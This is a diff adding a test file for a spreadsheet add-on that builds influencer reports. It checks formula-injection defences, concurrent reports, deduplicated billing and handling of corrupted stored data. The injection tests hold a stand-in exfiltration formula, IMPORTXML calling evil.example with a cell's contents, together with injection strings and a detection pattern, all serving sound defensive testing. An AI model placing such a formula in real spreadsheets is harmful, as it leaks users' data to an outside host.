@@ -1,0 +1,195 @@
+import { gunzipSync, gzipSync } from 'node:zlib';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { createAddon, standinTransport, type Addon, type AddonOptions } from '../setup/addon';
+import { ordinaryHandles } from '../setup/creators';
+import { expectLedgerToAgree } from '../setup/ledger';
+import { refusal, value } from './page';
+import { check, driven, read, reported, select, start, toReport } from './report';
+
+type Body = Record<string, unknown>;
+/** Changes answers of getUserData on their way. */
+let spoil: ((body: Body) => Body) | undefined;
+
+let addon: Addon;
+beforeEach(async () => {
+  spoil = undefined;
+  const transport: ReturnType<typeof standinTransport> = {
+    send: async (requests, atMs) =>
+      (await standinTransport(addon.standin).send(requests, atMs)).map((sent, index) => {
+        const url = requests[index]?.url ?? '';
+        if ('failed' in sent || !url.includes('getUserData') || !spoil || sent.status !== 200) return sent;
+        const isZipped = sent.body[0] === 0x1f;
+        const text = Buffer.from(isZipped ? gunzipSync(sent.body) : sent.body).toString('utf8');
+        const body = JSON.stringify(spoil(JSON.parse(text) as Body));
+        return { ...sent, body: new Uint8Array(isZipped ? gzipSync(body) : Buffer.from(body)) };
+      }),
+  };
+  addon = await createAddon({ standin: { creators: 2000 }, transport } as AddonOptions);
+});
+afterEach(async () => {
+  expectLedgerToAgree(addon);
+  await addon.close();
+});
+
+const handles = (count: number, from = 0): string[] => ordinaryHandles(addon.standin, from + count).slice(from);
+const sheet = (name: string) => addon.emulator.spreadsheet.sheet(name);
+const sheetNames = (): string[] => addon.emulator.spreadsheet.book.sheets.map(({ name }) => name);
+const letters = (column: number): string =>
+  (column > 26 ? String.fromCharCode(64 + Math.floor((column - 1) / 26)) : '') +
+  String.fromCharCode(65 + ((column - 1) % 26));
+const formulasOf = (name: string): string[] => {
+  const width = Math.max(
+    ...sheet(name)
+      .values()
+      .map(({ length }) => length),
+  );
+  return sheet(name)
+    .formulas(`A1:${letters(width)}${sheet(name).lastRow}`)
+    .flat()
+    .filter((formula) => formula !== '');
+};
+
+const EVIL = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
+/** Every text in an answer, and every name that it gives to something. */
+const poisoned = (wire: unknown): unknown => {
+  if (typeof wire === 'string') return /^\d{4}-\d\d-\d\d|^https:/.test(wire) ? wire : EVIL;
+  if (Array.isArray(wire)) return wire.map((each) => poisoned(each));
+  if (typeof wire === 'object' && wire !== null)
+    return Object.fromEntries(Object.entries(wire).map(([name, each]) => [name, poisoned(each)]));
+  return wire;
+};
+
+/** Formulas that the add-on writes itself, whatever the columns and rows. */
+const OWN = [
+  /^=IMAGE\("https:\/\/[^"\s]+"\)$/,
+  /^=[A-Z]+\d+$/,
+  /^=(MEDIAN|MAX)\([A-Z]+\d+:[A-Z]+\d+\)$/,
+  /^=SPARKLINE\(\$?[A-Z]+\d+(:\$?[A-Z]+\d+)?;\$[A-Z]+\$\d+:\$[A-Z]+\$\d+\)$/,
+  /^=IF\((AND|ISNUMBER|COUNTA|COUNTIF)\(/,
+];
+const strange = (name: string): string[] =>
+  formulasOf(name).filter(
+    (formula) => /IMPORT|evil|[12]\+[12]|cmd/i.test(formula) || !OWN.some((own) => own.test(formula)),
+  );
+
+describe('texts of strangers', () => {
+  test('make no formula, whatever is made of them', async () => {
+    spoil = (body) => poisoned({ ...body, '=1+1': [{ label: 'x', share: 0.4 }] }) as Body;
+    const both = handles(2);
+    for (const kind of ['sheets', 'comparison', 'profiles'] as const) {
+      select(addon, both);
+      expect(await reported(addon, { kind })).toMatchObject({ state: 'done', left: [] });
+    }
+    select(addon, both);
+    const targets = { countries: ['=1+1', EVIL.slice(0, 50)], ages: ['=2'], gender: '' as const, languages: ['=x'] };
+    await value(addon, 'fitScore', { platform: 'instagram', targets });
+    sheet('Sheet1').set('B1', [['Fee'], [100], ["'=HYPERLINK(1)"]]);
+    select(addon, both);
+    await value(addon, 'offerCheck', { platform: 'instagram', feeColumn: 2 });
+    expect(sheetNames().length).toBeGreaterThanOrEqual(7);
+    for (const name of sheetNames()) expect(strange(name), name).toEqual([]);
+  });
+
+  test('sections and labels that are formulas are names', async () => {
+    const section = [
+      { label: '=2+2', share: 0.5 },
+      { label: '+cmd', share: 0.2 },
+    ];
+    spoil = (body) => ({ ...body, 'audience=1+1': section });
+    select(addon, handles(1));
+    const [name = ''] = (await reported(addon)).sheets;
+    expect(strange(name)).toEqual([]);
+    expect(sheet(name).values().flat()).toEqual(expect.arrayContaining(['=2+2', '+cmd']));
+    expect(sheet(name).data.charts.map(({ options }) => String(options['title']))).toContain('audience=1+1');
+  });
+});
+
+const serve = (name: string, given: unknown, user: string) =>
+  addon.emulator.serve('influSidebar', [name, given], { user });
+
+describe('two at once', () => {
+  test('comparisons of two people at the same moment are two sheets', async () => {
+    select(addon, handles(2));
+    const first = await start(addon, toReport(await check(addon, { kind: 'comparison' })), { kind: 'comparison' });
+    addon.emulator.spreadsheet.insertSheet('Other');
+    const other = sheet('Other');
+    other.set('A1', [['Handle'], ...handles(2, 2).map((handle) => [handle])]);
+    other.select('A1:A3');
+    const second = await start(addon, toReport(await check(addon, { kind: 'comparison' })), { kind: 'comparison' });
+    await Promise.all([
+      serve('stepReport', { id: first.id, resume: false, cap: null }, 'owner@example.com'),
+      serve('stepReport', { id: second.id, resume: false, cap: null }, 'owner@example.com'),
+    ]);
+    const after = [await driven(addon, first, true), await driven(addon, second, true)];
+    const names = after.flatMap(({ sheets }) => sheets);
+    expect(new Set(names).size).toBe(2);
+    const texts = names.map((name) => sheet(name).values().flat().join(' '));
+    for (const [index, handle] of handles(4).entries()) expect(texts[index < 2 ? 0 : 1]).toContain(handle);
+    expect(addon.charged()).toBe(80);
+  });
+
+  test('the same creators from two sheets are paid for once', async () => {
+    select(addon, handles(2));
+    const first = await start(addon, toReport(await check(addon)));
+    addon.emulator.spreadsheet.insertSheet('Other');
+    const other = sheet('Other');
+    other.set('A1', [['Handle'], ...handles(2).map((handle) => [handle])]);
+    other.select('A1:A3');
+    const second = await start(addon, toReport(await check(addon)));
+    await Promise.all(
+      [first, second].map(({ id }) => serve('stepReport', { id, resume: false, cap: null }, 'owner@example.com')),
+    );
+    const after = [await driven(addon, first, true), await driven(addon, second, true)];
+    expect(addon.charged()).toBe(40);
+    expect(after.map(({ charged }) => charged).reduce((left, right) => left + right)).toBe(40);
+    expect(new Set(after.flatMap(({ sheets }) => sheets)).size).toBe(4);
+  });
+});
+
+test('one creator under several spellings is bought once', async () => {
+  const [handle = ''] = handles(1);
+  select(addon, [handle]);
+  const keys = [
+    `instagram/${handle}`,
+    `instagram/${handle.toUpperCase()}`,
+    `instagram/@${handle}`,
+    `instagram/https://www.instagram.com/${handle}/`,
+  ];
+  expect(await driven(addon, await start(addon, keys))).toMatchObject({ creators: 1, charged: 20 });
+  expect(addon.charged()).toBe(20);
+});
+
+test('discarded while reports are being bought: they are known, and free in the next run', async () => {
+  select(addon, handles(2));
+  const run = await start(addon, toReport(await check(addon)));
+  addon.standin.faults.add({ endpoint: 'getUserData', latencyMs: 9_000 });
+  let dropping: Promise<unknown> | undefined;
+  addon.emulator.faults.intercept = ({ method, phase }) => {
+    if (dropping || !/fetchAll/.test(method) || phase !== 'before') return undefined;
+    dropping = value(addon, 'stopReport', { id: run.id }).then(() => value(addon, 'dropReport', { id: run.id }));
+    return undefined;
+  };
+  expect(await refusal(addon, 'stepReport', { id: run.id, resume: false, cap: null })).toMatch(/not there any more/);
+  await dropping;
+  delete addon.emulator.faults.intercept;
+  expect(addon.charged()).toBe(40);
+  addon.forgetCache();
+  expect(await read(addon)).toMatchObject({ requests: 0, known: 2 });
+});
+
+test.each([
+  ['cut off', '[{'],
+  ['of another shape', '{"a":1}'],
+])(
+  'a list of pending ones that is %s is said and not written over, and nothing is bought that it could not keep',
+  async (_, text) => {
+    addon.setProperty('pending-reports', text);
+    expect(await refusal(addon, 'pendingReports', { check: false })).toMatch(/cannot be read/);
+    expect(await refusal(addon, 'dropPending', { keys: ['instagram/nike'] })).toMatch(/cannot be read/);
+    select(addon, handles(1));
+    const run = await start(addon, toReport(await check(addon)));
+    expect(await refusal(addon, 'stepReport', { id: run.id, resume: false, cap: null })).toMatch(/cannot be read/);
+    expect(addon.property('pending-reports')).toBe(text);
+    expect(addon.charged()).toBe(0);
+  },
+);
